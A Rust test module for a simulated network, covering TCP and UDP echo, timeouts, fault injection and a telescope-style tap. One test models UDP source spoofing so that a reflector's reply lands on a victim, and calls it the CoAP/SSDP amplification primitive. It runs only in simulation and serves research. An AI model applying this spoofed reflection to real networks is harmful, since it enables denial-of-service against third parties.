    impl Agent for Echo {
        fn on_tcp_open(
            &mut self,
            _ctx: &mut NetCtx<'_>,
            _conn: ConnToken,
            port: u16,
            _peer: SockAddr,
        ) -> TcpDecision {
            if port == self.port {
                TcpDecision::accept_with(self.banner)
            } else {
                TcpDecision::Refuse
            }
        }

        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            self.seen.push(data.to_vec());
            ctx.tcp_send(conn, data.to_ascii_uppercase());
        }

        fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.closed += 1;
        }

        fn on_udp(&mut self, ctx: &mut NetCtx<'_>, port: u16, peer: SockAddr, payload: &Payload) {
            self.udp_seen.push(payload.to_vec());
            ctx.udp_send(port, peer, payload.to_ascii_uppercase());
        }
    }

    /// A client that connects on boot, records lifecycle events, sends one
    /// message, and closes after the echo comes back.
    struct Client {
        dst: SockAddr,
        conn: Option<ConnToken>,
        established: bool,
        refused: bool,
        timed_out: bool,
        received: Vec<Vec<u8>>,
        udp_received: Vec<Vec<u8>>,
    }

    impl Client {
        fn new(dst: SockAddr) -> Self {
            Client {
                dst,
                conn: None,
                established: false,
                refused: false,
                timed_out: false,
                received: Vec::new(),
                udp_received: Vec::new(),
            }
        }
    }

    impl Agent for Client {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            self.conn = Some(ctx.tcp_connect(self.dst));
        }

        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            self.established = true;
            ctx.tcp_send(conn, b"hello".to_vec());
        }

        fn on_tcp_refused(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.refused = true;
        }

        fn on_tcp_timeout(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.timed_out = true;
        }

        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            self.received.push(data.to_vec());
            if self.received.len() == 2 {
                ctx.tcp_close(conn);
            }
        }

        fn on_udp(&mut self, _ctx: &mut NetCtx<'_>, _port: u16, _peer: SockAddr, payload: &Payload) {
            self.udp_received.push(payload.to_vec());
        }
    }

    fn net() -> SimNet {
        SimNet::new(SimNetConfig {
            latency: LatencyModel::Fixed(SimDuration::from_millis(10)),
            ..SimNetConfig::default()
        })
    }

    #[test]
    fn tcp_handshake_banner_echo_close() {
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        let server = net.attach(server_addr, Box::new(Echo::new(23, b"login: ")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(server_addr, 23))),
        );
        net.run_until(SimTime(10_000));

        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.established);
        assert!(!c.refused && !c.timed_out);
        // Banner first, then the upper-cased echo.
        assert_eq!(c.received, vec![b"login: ".to_vec(), b"HELLO".to_vec()]);

        let s = net.agent_downcast::<Echo>(server).unwrap();
        assert_eq!(s.seen, vec![b"hello".to_vec()]);
        assert_eq!(s.closed, 1, "server must learn about the client's close");

        let counters = net.counters();
        assert_eq!(counters.conns_established, 1);
        assert_eq!(counters.conn_timeouts, 0);
    }

    #[test]
    fn tcp_refused_on_closed_port() {
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(23, b"")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(server_addr, 8080))),
        );
        net.run_until(SimTime(10_000));
        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.refused && !c.established && !c.timed_out);
        assert_eq!(net.counters().conns_refused, 1);
    }

    #[test]
    fn tcp_timeout_on_empty_space() {
        let mut net = net();
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(ip(10, 9, 9, 9), 23))),
        );
        net.run_until(SimTime(10_000));
        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.timed_out && !c.established && !c.refused);
        assert_eq!(net.counters().conn_timeouts, 1);
    }

    #[test]
    fn udp_roundtrip() {
        struct UdpClient {
            dst: SockAddr,
            got: Vec<Vec<u8>>,
        }
        impl Agent for UdpClient {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.udp_send(40_000, self.dst, b"coap?".to_vec());
            }
            fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
                self.got.push(payload.to_vec());
            }
        }
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(23, b"")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(UdpClient {
                dst: SockAddr::new(server_addr, 5683),
                got: Vec::new(),
            }),
        );
        net.run_until(SimTime(10_000));
        let c = net.agent_downcast::<UdpClient>(client).unwrap();
        assert_eq!(c.got, vec![b"COAP?".to_vec()]);
    }

    #[test]
    fn spoofed_udp_reflects_to_victim() {
        // Attacker spoofs the victim's address; the reflector's reply lands
        // on the victim. This is the CoAP/SSDP amplification primitive.
        struct Attacker {
            reflector: SockAddr,
            victim: SockAddr,
        }
        impl Agent for Attacker {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.udp_send_spoofed(self.victim, self.reflector, b"discover".to_vec());
            }
        }
        struct Victim {
            hits: Vec<Vec<u8>>,
        }
        impl Agent for Victim {
            fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
                self.hits.push(payload.to_vec());
            }
        }
        let mut net = net();
        let reflector_addr = ip(10, 0, 0, 1);
        net.attach(reflector_addr, Box::new(Echo::new(23, b"")));
        let victim_id = net.attach(ip(10, 0, 0, 3), Box::new(Victim { hits: Vec::new() }));
        let victim_addr = SockAddr::new(ip(10, 0, 0, 3), 9999);
        net.attach(
            ip(10, 0, 0, 2),
            Box::new(Attacker {
                reflector: SockAddr::new(reflector_addr, 1900),
                victim: victim_addr,
            }),
        );
        net.run_until(SimTime(10_000));
        let v = net.agent_downcast::<Victim>(victim_id).unwrap();
        assert_eq!(v.hits, vec![b"DISCOVER".to_vec()]);
    }

    #[test]
    fn tap_sees_traffic_into_unoccupied_range() {
        struct Recorder {
            flows: Vec<FlowObservation>,
        }
        impl FlowTap for Recorder {
            fn observe(&mut self, obs: &FlowObservation) {
                self.flows.push(obs.clone());
            }
        }
        let mut net = net();
        let tap = net.add_tap(
            "44.0.0.0/8".parse().unwrap(),
            Box::new(Recorder { flows: Vec::new() }),
        );
        // A client probing into the dark /8: nobody answers, but the tap sees
        // the SYN — this is the network telescope mechanism.
        let dark = SockAddr::new(ip(44, 1, 2, 3), 23);
        let client = net.attach(ip(10, 0, 0, 2), Box::new(Client::new(dark)));
        net.run_until(SimTime(10_000));

        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.timed_out);
        let rec = net.tap_downcast_mut::<Recorder>(tap).unwrap();
        assert_eq!(rec.flows.len(), 1);
        let f = &rec.flows[0];
        assert_eq!(f.dst, ip(44, 1, 2, 3));
        assert_eq!(f.dst_port, 23);
        assert_eq!(f.transport, Transport::Tcp);
        assert_eq!(f.tcp_flags, FlowObservation::SYN);
        assert!(f.ttl < 64, "TTL must be decremented by hop count");
    }

    #[test]
    fn faults_cause_timeouts_deterministically() {
        let cfg = SimNetConfig {
            seed: 7,
            faults: FaultSchedule::uniform(FaultPlan {
                drop_chance: 0.5,
                ..FaultPlan::NONE
            }),
            latency: LatencyModel::Fixed(SimDuration::from_millis(10)),
            ..SimNetConfig::default()
        };
        let run = |cfg: SimNetConfig| {
            let mut net = SimNet::new(cfg);
            let server_addr = ip(10, 0, 0, 1);
            net.attach(server_addr, Box::new(Echo::new(23, b"x")));
            let mut clients = Vec::new();
            for i in 0..64u32 {
                clients.push(net.attach(
                    Ipv4Addr::from(0x0b00_0000 + i),
                    Box::new(Client::new(SockAddr::new(server_addr, 23))),
                ));
            }
            net.run_until(SimTime(60_000));
            clients
                .iter()
                .map(|&c| net.agent_downcast::<Client>(c).unwrap().timed_out)
                .collect::<Vec<bool>>()
        };
        let a = run(cfg.clone());
        let b = run(cfg);
        assert_eq!(a, b, "same seed, same outcome");
        let timeouts = a.iter().filter(|&&t| t).count();
        assert!(timeouts > 5 && timeouts < 60, "drop_chance=0.5 must lose some, not all: {timeouts}");
    }

    #[test]
    fn per_pair_latency_is_stable() {
        let m = LatencyModel::default();
        let a = m.one_way(ip(1, 2, 3, 4), ip(5, 6, 7, 8));
        let b = m.one_way(ip(1, 2, 3, 4), ip(5, 6, 7, 8));
        assert_eq!(a, b);
        assert!(a >= SimDuration::from_millis(10));
        assert!(a < SimDuration::from_millis(150));
    }

    #[test]
    #[should_panic(expected = "already occupied")]
    fn double_attach_panics() {
        let mut net = net();
        net.attach(ip(10, 0, 0, 1), Box::new(Echo::new(23, b"")));
        net.attach(ip(10, 0, 0, 1), Box::new(Echo::new(24, b"")));
    }

    #[test]
    fn send_after_close_is_dropped() {
        // Closing removes the connection; any straggler send is a no-op.
        struct Rude {
            dst: SockAddr,
        }
        impl Agent for Rude {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                let conn = ctx.tcp_connect(self.dst);
                ctx.tcp_close(conn);
                ctx.tcp_send(conn, b"too late".to_vec());
            }
        }
        let mut net = net();
        let server_addr = ip(10, 0, 0, 1);
        let server = net.attach(server_addr, Box::new(Echo::new(23, b"")));
        net.attach(
            ip(10, 0, 0, 2),
            Box::new(Rude {
                dst: SockAddr::new(server_addr, 23),
            }),
        );
        net.run_until(SimTime(10_000));
        let s = net.agent_downcast::<Echo>(server).unwrap();
        assert!(s.seen.is_empty());
    }

    fn uniform_net(plan: FaultPlan) -> SimNet {
        SimNet::new(SimNetConfig {
            seed: 7,
            faults: FaultSchedule::uniform(plan),
            latency: LatencyModel::Fixed(SimDuration::from_millis(10)),
            ..SimNetConfig::default()
        })
    }

    /// Client that records a reset distinctly from a close.
    struct ResetAware {
        dst: SockAddr,
        established: bool,
        reset: bool,
        closed: bool,
    }

    impl Agent for ResetAware {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            self.established = true;
            ctx.tcp_send(conn, b"hello".to_vec());
        }
        fn on_tcp_reset(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.reset = true;
        }
        fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
            self.closed = true;
        }
    }

    #[test]
    fn injected_reset_notifies_both_ends() {
        // Every segment rolls a reset: the client's "hello" tears the
        // connection down; client sees on_tcp_reset, server's default
        // on_tcp_reset falls through to on_tcp_closed.
        let mut net = uniform_net(FaultPlan {
            reset_chance: 1.0,
            ..FaultPlan::NONE
        });
        let server_addr = ip(10, 0, 0, 1);
        let server = net.attach(server_addr, Box::new(Echo::new(23, b"")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(ResetAware {
                dst: SockAddr::new(server_addr, 23),
                established: false,
                reset: false,
                closed: false,
            }),
        );
        net.run_until(SimTime(30_000));
        let s = net.agent_downcast::<Echo>(server).unwrap();
        assert!(s.seen.is_empty(), "segment must not be delivered");
        assert_eq!(s.closed, 1, "server hears the reset via on_tcp_closed");
        let c = net.agent_downcast::<ResetAware>(client).unwrap();
        assert!(c.reset && !c.closed);
        assert!(net.counters().tcp_resets_injected >= 1);
    }

    #[test]
    fn rate_limit_manifests_as_refusal() {
        let mut net = uniform_net(FaultPlan {
            rate_limit_chance: 1.0,
            ..FaultPlan::NONE
        });
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(23, b"x")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(server_addr, 23))),
        );
        net.run_until(SimTime(30_000));
        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.refused && !c.established && !c.timed_out);
        let counters = net.counters();
        assert_eq!(counters.tcp_rate_limited, 1);
        assert_eq!(counters.conns_refused, 1);
        assert_eq!(counters.conns_established, 0);
    }

    #[test]
    fn churned_dark_host_times_out_but_is_observed() {
        struct Recorder {
            flows: usize,
        }
        impl FlowTap for Recorder {
            fn observe(&mut self, _obs: &FlowObservation) {
                self.flows += 1;
            }
        }
        let mut net = uniform_net(FaultPlan {
            churn_chance: 1.0,
            ..FaultPlan::NONE
        });
        let tap = net.add_tap("10.0.0.0/8".parse().unwrap(), Box::new(Recorder { flows: 0 }));
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(23, b"x")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(server_addr, 23))),
        );
        net.run_until(SimTime(30_000));
        let c = net.agent_downcast::<Client>(client).unwrap();
        assert!(c.timed_out && !c.established, "dark host looks like empty space");
        assert_eq!(net.counters().churn_suppressed, 1);
        let rec = net.tap_downcast_mut::<Recorder>(tap).unwrap();
        assert_eq!(rec.flows, 1, "host-level churn still reaches the wire tap");
    }

    #[test]
    fn duplicate_udp_delivers_twice() {
        struct OneShot {
            dst: SockAddr,
        }
        impl Agent for OneShot {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.udp_send(40_000, self.dst, b"ping".to_vec());
            }
        }
        let mut net = uniform_net(FaultPlan {
            duplicate_chance: 1.0,
            ..FaultPlan::NONE
        });
        let server_addr = ip(10, 0, 0, 1);
        let server = net.attach(server_addr, Box::new(Echo::new(23, b"")));
        net.attach(
            ip(10, 0, 0, 2),
            Box::new(OneShot {
                dst: SockAddr::new(server_addr, 5683),
            }),
        );
        net.run_until(SimTime(10_000));
        let s = net.agent_downcast::<Echo>(server).unwrap();
        assert_eq!(s.udp_seen.len(), 2, "duplicate delivery arrives twice");
        assert!(net.counters().udp_datagrams_duplicated >= 1);
    }

    #[test]
    fn outage_window_blacks_out_then_recovers() {
        struct Retrier {
            dst: SockAddr,
            outcomes: Vec<&'static str>,
        }
        impl Agent for Retrier {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.tcp_connect(self.dst);
                ctx.set_timer(SimDuration::from_secs(10), 1);
            }
            fn on_tcp_established(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
                self.outcomes.push("established");
            }
            fn on_tcp_timeout(&mut self, _ctx: &mut NetCtx<'_>, _conn: ConnToken) {
                self.outcomes.push("timeout");
            }
            fn on_timer(&mut self, ctx: &mut NetCtx<'_>, _token: u64) {
                ctx.tcp_connect(self.dst);
            }
        }
        let mut net = SimNet::new(SimNetConfig {
            seed: 7,
            faults: FaultSchedule {
                phases: vec![FaultPhase {
                    name: "outage".into(),
                    from_ms: Some(0),
                    to_ms: Some(5_000),
                    plan: FaultPlan {
                        drop_chance: 1.0,
                        ..FaultPlan::NONE
                    },
                    ..FaultPhase::default()
                }],
            },
            latency: LatencyModel::Fixed(SimDuration::from_millis(10)),
            ..SimNetConfig::default()
        });
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(23, b"x")));
        let client = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Retrier {
                dst: SockAddr::new(server_addr, 23),
                outcomes: Vec::new(),
            }),
        );
        net.run_until(SimTime(60_000));
        let c = net.agent_downcast::<Retrier>(client).unwrap();
        assert_eq!(
            c.outcomes,
            vec!["timeout", "established"],
            "blackout swallows the first attempt; the retry after the window lands"
        );
        assert_eq!(net.counters().tcp_handshake_drops, 1);
    }

    #[test]
    fn scoped_phase_only_hits_matching_port() {
        let mut net = SimNet::new(SimNetConfig {
            seed: 7,
            faults: FaultSchedule {
                phases: vec![FaultPhase {
                    name: "telnet-only".into(),
                    scope: FaultScope {
                        ports: vec![23],
                        ..FaultScope::default()
                    },
                    plan: FaultPlan {
                        drop_chance: 1.0,
                        ..FaultPlan::NONE
                    },
                    from_ms: Some(0),
                    to_ms: Some(600_000),
                    ..FaultPhase::default()
                }],
            },
            latency: LatencyModel::Fixed(SimDuration::from_millis(10)),
            ..SimNetConfig::default()
        });
        let server_addr = ip(10, 0, 0, 1);
        net.attach(server_addr, Box::new(Echo::new(80, b"ok")));
        let telnet = net.attach(
            ip(10, 0, 0, 2),
            Box::new(Client::new(SockAddr::new(server_addr, 23))),
        );
        let http = net.attach(
            ip(10, 0, 0, 3),
            Box::new(Client::new(SockAddr::new(server_addr, 80))),
        );
        net.run_until(SimTime(30_000));
        assert!(net.agent_downcast::<Client>(telnet).unwrap().timed_out);
        assert!(net.agent_downcast::<Client>(http).unwrap().established);
    }

    #[test]
    fn jitter_never_reorders_within_a_connection() {
        // 40 back-to-back segments under heavy jitter must arrive in order
        // (the per-conn FIFO clamp); see also crates/net/tests/fault_props.rs.
        struct Burst {
            dst: SockAddr,
        }
        impl Agent for Burst {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.tcp_connect(self.dst);
            }
            fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
                for i in 0..40u8 {
                    ctx.tcp_send(conn, vec![i]);
                }
            }
        }
        let mut net = uniform_net(FaultPlan {
            jitter_ms: 500,
            ..FaultPlan::NONE
        });
        let server_addr = ip(10, 0, 0, 1);
        let server = net.attach(server_addr, Box::new(Echo::new(23, b"")));
        net.attach(
            ip(10, 0, 0, 2),
            Box::new(Burst {
                dst: SockAddr::new(server_addr, 23),
            }),
        );
        net.run_until(SimTime(60_000));
        let s = net.agent_downcast::<Echo>(server).unwrap();
        let order: Vec<u8> = s.seen.iter().map(|m| m[0]).collect();
        assert_eq!(order, (0..40).collect::<Vec<u8>>());
    }
}
